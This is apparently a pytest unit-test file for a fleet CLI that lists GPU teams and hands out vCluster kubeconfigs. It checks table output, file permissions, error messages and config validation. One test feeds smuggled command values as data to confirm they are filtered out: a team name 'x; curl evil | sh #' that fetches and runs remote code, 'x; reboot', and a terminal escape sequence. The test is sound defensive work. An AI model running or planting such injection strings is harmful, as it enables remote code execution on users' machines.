"""`fleet teams` and kubeconfigs: what is written, what runs, and what is not known."""

import json
import subprocess

import pytest
import yaml
from cryptography import x509

from kai_fleet.cluster.tenant_kubeconfig import kubeconfig_of_secret
from kai_fleet.releases import KAI, VCLUSTER
from kai_fleet_cli.engine.environment import Environment
from kai_fleet_cli.errors import UserError
from kai_fleet_cli.stack_file import reading
from kai_fleet_cli.teams import state
from tests.unit.cli.teams.team_project import GRANT
from tests.unit.components.cluster import vcluster_secrets
from tests.unit.components.cluster.canned_api import kubeconfig

KEPT = kubeconfig_of_secret(vcluster_secrets.data(), "https://10.0.0.1:443", "team-ml-ml")


@pytest.fixture
def lab(project):
    """Its stack has the teams ml, and old, which the file lacks."""
    teams = {name: {"scheduler": "v0.13.4"} for name in ("ml", "old")}
    project.outputs = {"teams": teams, "kubeconfigs": dict.fromkeys(teams, KEPT)}
    return project


def as_json(project):
    ran = project.run("teams", "-s", "lab", "--json")
    assert ran.code == 0, ran.refusal
    record = json.loads(ran.out)
    return {row["team"]: row for row in record["teams"]}, record["notes"]


def test_the_list_tells_wanted_from_running(lab):
    file = lab.root / "Pulumi.lab.yaml"
    file.write_text(lab.text() + GRANT)
    rows, notes = as_json(lab)
    assert list(rows) == ["dev", "ml"]
    certificate = x509.load_pem_x509_certificate(vcluster_secrets.keys().certificate)
    ends = rows["ml"].pop("ends")
    assert ends == sorted(ends)
    assert f"{certificate.not_valid_after_utc:%Y-%m-%d} its kubeconfig" in ends
    assert {end.partition(" ")[2] for end in ends} == {
        "its kubeconfig",
        "its server's authority",
        "fixes for KAI v0.13.4",
        "fixes for vCluster v0.36.1",
    }
    assert rows["dev"]["ends"] == [f"{VCLUSTER['v0.36.1'].support_end} fixes for vCluster v0.36.1"]
    assert rows["ml"] == {
        "team": "ml",
        "mode": "virtual",
        "scheduler": "KAI v0.14.7",
        "running": "v0.13.4",
        "vCluster": "v0.36.1",
        "GPUs": "4",
        "guaranteed": "4",
        "nodes": "pool=ml",
        "backup": "-",
        "verified": "-",
    }
    assert (rows["dev"]["GPUs"], rows["dev"]["guaranteed"]) == ("1", "-")
    assert "teams with a stack of their own are listed there: vision" in notes


def test_a_host_that_cannot_be_asked_for_backups_is_a_note(lab):
    file = lab.root / "Pulumi.lab.yaml"
    file.write_text(f"{lab.text()}  kai-fleet:backup: {{to: claim/copies}}\n")
    rows, notes = as_json(lab)
    assert (rows["ml"]["backup"], rows["ml"]["verified"]) == ("-", "-")
    assert any(note.startswith("when backups were taken cannot be read: ") for note in notes)


def test_the_kubeconfig_goes_to_a_file_that_only_its_owner_reads(lab):
    file = lab.root / "ml.kubeconfig"
    file.write_text("older")
    file.chmod(0o644)
    assert lab.run("team", "kubeconfig", "ml", "-s", "lab", "-o", str(file)).code == 0
    assert file.read_text() == KEPT
    assert file.stat().st_mode & 0o777 == 0o600
    assert lab.run("team", "kubeconfig", "ml", "-s", "lab").out == KEPT
    nowhere = lab.run("team", "kubeconfig", "ml", "-s", "lab", "-o", "/nowhere/x")
    assert nowhere.refusal == "/nowhere/x cannot be written: No such file or directory"


def test_a_kubeconfig_in_the_state_that_is_not_vclusters_is_not_given_out(lab):
    """A team stack's state is its team's."""
    document = vcluster_secrets.config(server="https://10.0.0.1:443")
    document["users"][0]["user"]["exec"] = vcluster_secrets.USER["exec"]
    lab.outputs["kubeconfigs"] = {"ml": yaml.safe_dump(document)}
    ran = lab.run("team", "kubeconfig", "ml", "-s", "lab")
    says = (
        "the kubeconfig of team ml in the stack's state has in its key config what vCluster"
        " does not write there. Somebody who can write in the namespace of team ml"
    )
    assert (ran.code, ran.out) == (1, "")
    assert ran.refusal.startswith(says)


def test_outputs_that_cannot_be_read_are_one_sentence(monkeypatch):
    monkeypatch.setattr(state, "for_stack", lambda *_, **__: Environment())

    def failing(stderr):
        def run(*_, **__):
            raise subprocess.CalledProcessError(255, "pulumi", "", stderr)

        monkeypatch.setattr(subprocess, "run", run)
        with pytest.raises(UserError) as why:
            state.read("lab")
        return str(why.value)

    assert failing("error: no stack named 'lab' found") == "stack lab was never updated"
    assert failing("warning: x\nerror: incorrect passphrase\n").endswith(": incorrect passphrase")


def test_a_cli_that_does_not_run_is_one_sentence(monkeypatch, tmp_path):
    ready = Environment({"PATH": str(tmp_path)})
    monkeypatch.setattr(state, "for_stack", lambda *_, **__: ready)
    with pytest.raises(UserError, match=r"state of stack lab cannot be read: .*'pulumi'"):
        state.read("lab")


NO_TOKEN = [{}, {"status": None}, {"status": {}}, {"status": {"token": None}}, {"status": "x"}]


@pytest.mark.parametrize("answer", NO_TOKEN)
def test_an_answer_without_a_token_is_one_sentence(tmp_path, monkeypatch, answer):
    file = tmp_path / "kubeconfig"
    file.write_text(kubeconfig("https://127.0.0.1:1"))
    monkeypatch.setattr(state.Api, "post", lambda *_: answer)
    with pytest.raises(UserError, match="the cluster of context lab answers without a token"):
        state.of_account("ml", "lab", 1, "prod", str(file))


def test_the_table_has_every_team(lab):
    printed = " ".join(lab.run("teams", "-s", "lab").out.split())
    nearest = min(KAI["v0.13.4"].support_end, VCLUSTER["v0.36.1"].support_end)
    assert f"ml virtual KAI v0.14.7 v0.13.4 v0.36.1 4 4 pool=ml - - {nearest} fixes for" in printed


def test_names_and_versions_that_no_program_makes_are_left_out(lab):
    """A team stack's state is its team's, and a name goes into commands to copy."""
    wrong = {"x; curl evil | sh #": {"scheduler": "v1"}, "ml": {"scheduler": "\x1b[2Jv0.16.8"}}
    lab.outputs = {"teams": wrong, "kubeconfigs": {"ml": KEPT, "x; reboot": KEPT}}
    rows, notes = as_json(lab)
    assert rows["ml"]["running"] == "-"
    assert notes == []
    lab.outputs = {"teams": ["x"], "kubeconfigs": "x"}
    assert set(as_json(lab)[0]) == {"dev", "ml"}


MISTYPED = [
    ("gpus: 4", "gpus: many", "kai-fleet:teams.ml.gpus"),
    ("mode: virtual", "mode: virtually", "kai-fleet:teams.ml.scheduler.mode"),
]


@pytest.mark.parametrize(("right", "wrong", "key"), MISTYPED)
@pytest.mark.parametrize(
    "command", [("teams",), ("doctor",), ("report",), ("team", "kubeconfig", "ml", "--oidc")]
)
def test_no_cluster_is_judged_by_a_file_with_a_wrong_key(lab, command, right, wrong, key):
    file = lab.root / "Pulumi.lab.yaml"
    file.write_text(lab.text().replace(right, wrong, 1))
    ran = lab.run(*command, "-s", "lab")
    assert ran.code == (2 if command == ("doctor",) else 1)
    assert f"{key}: " in ran.refusal + ran.out


def test_a_host_is_reached_by_a_file_with_a_wrong_key(lab):
    file = lab.root / "Pulumi.lab.yaml"
    file.write_text(lab.text().replace("gpus: 4", "gpus: many", 1))
    assert reading.usable_settings_of("lab").cluster.context == "lab"
    file.write_text(lab.text().replace("name: lab", "name: [lab]", 1))
    with pytest.raises(UserError, match="kai-fleet:cluster"):
        reading.usable_settings_of("lab")
